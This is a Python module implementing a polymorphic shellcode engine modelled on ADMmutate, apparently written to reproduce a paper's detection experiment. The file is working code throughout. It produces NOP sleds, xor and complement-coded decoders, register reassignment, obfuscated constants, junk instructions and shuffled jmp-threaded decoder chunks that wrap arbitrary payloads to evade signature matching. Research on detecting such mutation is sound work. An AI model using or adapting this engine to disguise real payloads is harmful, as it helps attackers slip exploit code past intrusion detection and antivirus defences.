"""ADMmutate-style polymorphic shellcode engine.

Reproduces the toolkit the paper evaluates in §5.2 [11]: every generated
instance wraps the same payload behaviour in fresh syntax using

- a variable NOP-like sled (drawn from single-byte slide-safe opcodes);
- one of **two decoder families** — the xor loop, and the alternate
  "mov/or/and/not on a single memory-location-register pair" scheme the
  paper discovered during the 68% experiment (Figure 7);
- register reassignment (pointer/key/work registers drawn per instance);
- constant obfuscation (split-add, split-xor, push/pop materialization);
- equivalent instruction substitution (inc vs add 1, mov r,0 vs xor r,r);
- garbage instruction insertion on registers the decoder does not use
  (flag-safety preserved around conditional branches);
- out-of-order code sequencing: the decoder is cut into chunks that are
  emitted shuffled and re-threaded with ``jmp`` instructions.

All randomness flows from an explicit seed, so every instance in the
Table 2 experiment is reproducible.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from ..x86.asm import assemble

__all__ = ["AdmMutateEngine", "MutatedPayload", "SLED_OPCODES",
           "DECODER_FAMILIES"]

#: The two decoder families: the xor loop and the alternate scheme.
XOR, ALTERNATE = DECODER_FAMILIES = ("xor", "mov-or-and-not")

# Slide-safe single-byte instructions for sleds.  We exclude inc/dec esp
# (0x44/0x4c) and push esp (0x54) out of politeness to the simulated stack.
SLED_OPCODES: tuple[int, ...] = tuple(
    b for b in (
        [0x90]
        + [x for x in range(0x40, 0x50) if x not in (0x44, 0x4C)]
        + [x for x in range(0x50, 0x58) if x != 0x54]
        + [0x27, 0x2F, 0x37, 0x3F, 0x98, 0xF5, 0xF8, 0xF9, 0xFC]
    )
)

_PTR_REGS = ["esi", "edi", "ebx", "edx"]
_BYTE_OF = {"eax": "al", "ebx": "bl", "ecx": "cl", "edx": "dl"}


@dataclass
class MutatedPayload:
    """One polymorphic instance."""

    data: bytes
    decoder_family: str  # one of DECODER_FAMILIES
    key: int
    sled_len: int
    seed: int
    source: str = field(repr=False, default="")

    def __len__(self) -> int:
        return len(self.data)


class AdmMutateEngine:
    """Generates polymorphic instances of a payload."""

    def __init__(
        self,
        seed: int = 0,
        sled_range: tuple[int, int] = (32, 96),
        junk_probability: float = 0.4,
        max_chunks: int = 4,
    ) -> None:
        self.seed = seed
        self.sled_range = sled_range
        self.junk_probability = junk_probability
        self.max_chunks = max_chunks

    # -- public -------------------------------------------------------------

    def mutate(self, payload: bytes, instance: int = 0,
               family: str | None = None) -> MutatedPayload:
        """Generate one instance.  ``instance`` seeds per-instance
        randomness; ``family`` forces a decoder family (default: the engine
        picks one of the two at random, like ADMmutate does)."""
        rng = random.Random((self.seed << 20) ^ instance)
        if family is None:
            # ADMmutate prefers its xor scheme; the paper's first pass
            # (xor template only) caught 68% of instances, which is the
            # observed family mix.
            family = XOR if rng.random() < 0.68 else ALTERNATE
        if family == XOR:
            key = rng.randrange(1, 256)
            encoded = bytes(b ^ key for b in payload)
            body = self._xor_body(rng, key)
        elif family == ALTERNATE:
            key = 0  # the alternate scheme is keyless (complement coding)
            encoded = bytes((~b) & 0xFF for b in payload)
            body = self._alt_body(rng)
        else:
            raise ValueError(f"unknown decoder family: {family!r}")

        source = self._decoder_source(rng, body, len(payload))
        decoder = assemble(source)
        sled = self._sled(rng)
        return MutatedPayload(
            data=sled + decoder + encoded,
            decoder_family=family,
            key=key,
            sled_len=len(sled),
            seed=instance,
            source=source,
        )

    def batch(self, payload: bytes, count: int,
              family: str | None = None) -> list[MutatedPayload]:
        return [self.mutate(payload, instance=i, family=family)
                for i in range(count)]

    # -- decoder families ----------------------------------------------------

    def _xor_body(self, rng: random.Random, key: int) -> "_Body":
        """xor decoder: either an immediate key or a key register whose
        value is obfuscated at setup time."""
        ptr = rng.choice(_PTR_REGS)
        body = _Body(ptr=ptr)
        use_reg_key = rng.random() < 0.6
        if use_reg_key:
            key_reg = rng.choice([r for r in ("eax", "ebx", "edx")
                                  if r != ptr])
            body.reserved.add(key_reg)
            body.setup += self._obfuscated_const(rng, key_reg, key)
            key_operand = _BYTE_OF[key_reg]
        else:
            key_operand = f"{key:#x}"
        body.loop.append(f"xor byte ptr [{ptr}], {key_operand}")
        body.loop.append(self._ptr_step(rng, ptr))
        return body

    def _alt_body(self, rng: random.Random) -> "_Body":
        """The Figure 7 decoder: mov/or/and/not on one memory location and
        register pair.  The payload is complement-coded; ``not`` recovers
        it, while or/and identity operations vary the syntax."""
        ptr = rng.choice(_PTR_REGS)
        work = rng.choice([r for r in ("eax", "ebx", "edx") if r != ptr])
        work8 = _BYTE_OF[work]
        body = _Body(ptr=ptr)
        body.reserved.add(work)
        chain = [f"mov {work8}, byte ptr [{ptr}]"]
        identity_ops = [
            f"or {work8}, 0",
            f"and {work8}, 0xff",
            f"or {work8}, {work8}",
            f"and {work8}, {work8}",
        ]
        ops = [f"not {work8}"]
        for _ in range(rng.randrange(1, 3)):
            ops.insert(rng.randrange(len(ops) + 1), rng.choice(identity_ops))
        chain += ops
        chain.append(f"mov byte ptr [{ptr}], {work8}")
        chain.append(self._ptr_step(rng, ptr))
        body.loop += chain
        return body

    # -- assembly-level obfuscation --------------------------------------------

    def _ptr_step(self, rng: random.Random, ptr: str) -> str:
        return rng.choice([f"inc {ptr}", f"add {ptr}, 1"])

    def _obfuscated_const(self, rng: random.Random, reg: str, value: int) -> list[str]:
        """Materialize ``reg = value`` without the literal appearing."""
        style = rng.randrange(4)
        if style == 0:  # split add
            a = rng.randrange(1, 0x7FFFFFFF)
            b = (value - a) & 0xFFFFFFFF
            return [f"mov {reg}, {a:#x}", f"add {reg}, {b:#x}"]
        if style == 1:  # split xor
            a = rng.randrange(1, 0xFFFFFFFF)
            b = value ^ a
            return [f"mov {reg}, {a:#x}", f"xor {reg}, {b:#x}"]
        if style == 2:  # subtract down
            a = (value + 0x1111) & 0xFFFFFFFF
            return [f"mov {reg}, {a:#x}", f"sub {reg}, 0x1111"]
        return [f"push {value:#x}", f"pop {reg}"]  # via the stack

    def _zero(self, rng: random.Random, reg: str) -> str:
        return rng.choice([f"xor {reg}, {reg}", f"sub {reg}, {reg}",
                           f"mov {reg}, 0"])

    def _junk(self, rng: random.Random, free_regs: list[str]) -> list[str]:
        """Garbage instructions that touch only free registers/flags."""
        out: list[str] = []
        while rng.random() < self.junk_probability and len(out) < 4:
            kind = rng.randrange(6)
            if kind == 0 and free_regs:
                r = rng.choice(free_regs)
                out.append(f"mov {r}, {rng.randrange(1 << 31):#x}")
            elif kind == 1 and free_regs:
                r = rng.choice(free_regs)
                out.append(f"add {r}, {rng.randrange(1 << 16):#x}")
            elif kind == 2 and free_regs:
                r = rng.choice(free_regs)
                out.append(f"xor {r}, {rng.randrange(1 << 16):#x}")
            elif kind == 3:
                out.append("nop")
            elif kind == 4:
                out.append(rng.choice(["cld", "clc", "stc", "cmc"]))
            elif kind == 5 and free_regs:
                r = rng.choice(free_regs)
                out.append(f"test {r}, {r}")
        return out

    # -- decoder assembly --------------------------------------------------------

    def _decoder_source(self, rng: random.Random, body: "_Body",
                        payload_len: int) -> str:
        ptr = body.ptr
        used = {ptr, "ecx", "esp"} | body.reserved
        free = [r for r in ("eax", "ebx", "edx", "edi", "esi", "ebp")
                if r not in used]

        # Counter scheme: classic `loop` or dec/jnz.
        use_loop = rng.random() < 0.5

        setup: list[str] = [f"pop {ptr}"]
        setup += body.setup
        if rng.random() < 0.5:
            setup += [f"mov ecx, {payload_len}"]
        else:
            setup += self._obfuscated_const(rng, "ecx", payload_len)

        loop_lines = list(body.loop)
        if use_loop:
            tail = ["loop decode"]
        else:
            tail = ["dec ecx", "jnz decode"]

        # Junk insertion: anywhere in setup; in the loop body only *before*
        # the flag-coupled tail (dec/jnz and loop must stay adjacent, and
        # for dec/jnz no flag-writing junk in between).
        def with_junk(lines: list[str]) -> list[str]:
            out: list[str] = []
            for line in lines:
                out += self._junk(rng, free)
                out.append(line)
            return out

        setup = with_junk(setup)
        loop_lines = with_junk(loop_lines)

        linear = setup + ["decode:"] + loop_lines + tail + ["jmp payload"]

        # Out-of-order sequencing: cut into chunks, shuffle, re-thread.
        chunks = self._chunkify(rng, linear)
        lines = ["jmp getpc"]
        for chunk in chunks:
            lines += chunk
        lines += ["getpc:", "call d_entry", "payload:"]
        return "\n".join(lines)

    def _chunkify(self, rng: random.Random, linear: list[str]) -> list[list[str]]:
        """Split the linear decoder at safe points and shuffle the pieces,
        preserving execution order with jmp threading."""
        n_chunks = rng.randrange(1, self.max_chunks + 1)
        # Safe cut points: not between a label and its successor, not
        # between dec/jnz or the instruction pair feeding a branch.
        safe = [
            i for i in range(1, len(linear))
            if not linear[i - 1].endswith(":")
            and not linear[i].startswith(("jnz", "loop"))
        ]
        cuts = sorted(rng.sample(safe, min(n_chunks - 1, len(safe))))
        pieces: list[list[str]] = []
        prev = 0
        for cut in cuts + [len(linear)]:
            pieces.append(linear[prev:cut])
            prev = cut
        # Label each piece; piece i ends with a jmp to piece i+1's label.
        for i, piece in enumerate(pieces):
            label = "d_entry" if i == 0 else f"d_{i}"
            piece.insert(0, f"{label}:")
            if i + 1 < len(pieces):
                piece.append(f"jmp d_{i + 1}")
        order = list(range(len(pieces)))
        rng.shuffle(order)
        return [pieces[i] for i in order]

    def _sled(self, rng: random.Random) -> bytes:
        lo, hi = self.sled_range
        length = rng.randrange(lo, hi + 1)
        return bytes(rng.choice(SLED_OPCODES) for _ in range(length))


@dataclass
class _Body:
    """Intermediate decoder description produced by a family generator."""

    ptr: str
    setup: list[str] = field(default_factory=list)
    loop: list[str] = field(default_factory=list)
    reserved: set[str] = field(default_factory=set)
